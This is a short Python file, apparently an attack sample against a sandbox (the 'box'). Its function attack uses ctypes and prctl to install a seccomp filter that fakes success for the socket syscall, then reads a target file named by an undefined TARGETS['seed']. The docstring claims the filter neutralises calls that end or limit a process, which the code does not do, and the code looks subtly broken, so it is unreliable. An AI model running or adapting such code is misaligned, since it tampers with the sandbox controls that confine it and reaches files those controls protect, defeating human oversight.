"""Puts a filter of its own before the box's, which answers the calls that end and limit a process with success."""

import ctypes


def attack():
    libc = ctypes.CDLL(None, use_errno=True)
    allow, errno = 0x7FFF0000, 0x00050000
    lines = [(0x20, 0, 0, 0), (0x15, 0, 1, 41), (0x06, 0, 0, errno), (0x06, 0, 0, allow)]  # socket "succeeds"
    code = b"".join(a.to_bytes(2, "little") + bytes([b, c]) + d.to_bytes(4, "little") for a, b, c, d in lines)
    buffer = ctypes.create_string_buffer(code)

    class Program(ctypes.Structure):
        _fields_ = [("length", ctypes.c_ushort), ("filter", ctypes.c_void_p)]

    libc.prctl(22, 2, ctypes.byref(Program(len(lines), ctypes.cast(buffer, ctypes.c_void_p))), 0, 0)
    return open(TARGETS["seed"]).read()
